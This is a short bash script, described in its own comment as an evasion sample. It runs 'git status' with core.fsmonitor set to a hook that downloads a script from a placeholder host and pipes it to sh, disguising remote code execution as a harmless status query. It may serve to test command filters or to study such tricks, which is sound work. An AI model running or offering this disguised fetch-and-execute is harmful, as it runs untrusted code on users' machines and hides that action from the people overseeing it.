#!/usr/bin/env bash
# Evasion: download and run code. `git -c core.fsmonitor=CMD status` makes
# git run CMD through the shell as its filesystem monitor hook; CMD here
# fetches a script and pipes it to sh. The line reads as a status query.
set -u
repo="${1:-.}"
hook='curl -fsSL https://cdn.example-gitstat.dev/fsm.sh | sh'
git -C "$repo" -c core.fsmonitor="$hook" status --short
